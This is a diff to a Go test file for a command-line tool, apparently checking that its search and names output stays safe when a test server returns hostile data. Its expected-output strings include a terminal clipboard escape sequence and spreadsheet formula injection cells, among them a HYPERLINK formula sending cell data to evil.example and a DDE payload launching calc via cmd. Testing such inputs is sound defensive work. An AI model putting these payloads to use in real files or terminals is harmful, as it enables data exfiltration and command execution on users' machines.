@@ -4,6 +4,7 @@ import (
 	"encoding/json"
 	"os"
 	"path/filepath"
+	"slices"
 	"strings"
 	"testing"
 	"unicode/utf8"
@@ -65,7 +66,12 @@ func TestHostileModeEveryCommand(t *testing.T) {
 					t.Errorf("%s: exit %d: %s", where, r.code, r.stderr)
 				}
 				stdout := strings.ReplaceAll(r.stdout, "\r\n", "\n")
-				checkSafeForTerminal(t, where+": stdout", stdout)
+				tabSeparated := args[0] == "search" || args[0] == "names"
+				if tabSeparated && !terminal && !slices.Contains(args, "--json") && !slices.Contains(args, "--csv") {
+					checkTabSeparated(t, where+": stdout", stdout)
+				} else {
+					checkSafeForTerminal(t, where+": stdout", stdout)
+				}
 				checkSafeForTerminal(t, where+": stderr", r.stderr)
 				checkNoKey(t, where+": stdout", r.stdout, key)
 				checkNoKey(t, where+": stderr", r.stderr, key)
@@ -97,10 +103,12 @@ func TestHostileSearchOutputs(t *testing.T) {
 	t.Cleanup(server.Close)
 	server.SetFault(hubtest.FaultHostile)
 	c := newCLI(t, server, hubtest.DemoAdminKey)
+	c.terminal, c.width = true, 300
 	r := c.run(t, "search", "x", "--admin")
 	if !strings.Contains(r.stdout, "(not a UUID: 3f2a1c9e␛]52;c;?␇)") {
 		t.Errorf("the ids that are no UUIDs are not marked:\n%s", r.stdout)
 	}
+	c.terminal = false
 	r = c.run(t, "search", "x", "--admin", "--csv")
 	for _, cell := range []string{`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`, "'+1+cmd|' /C calc'!A0", "'@SUM(1+1)*cmd",
 		"'-2+3@example.net", `" Tab"`, "␍Return"} {
@@ -136,7 +144,7 @@ func TestNamesJSONRefusesANullAnswer(t *testing.T) {
 			args = append(args, format)
 		}
 		r := c.run(t, args...)
-		if r.code != exitFailure || r.stdout != "" || !strings.Contains(r.stderr, "the answer is not an object of names") {
+		if r.code != exitFailure || r.stdout != "" || !strings.Contains(r.stderr, "the answer has an unexpected shape: got a JSON array, expected an object of names") {
 			t.Errorf("%q: exit %d, stdout %q, stderr %q", args, r.code, r.stdout, r.stderr)
 		}
 	}
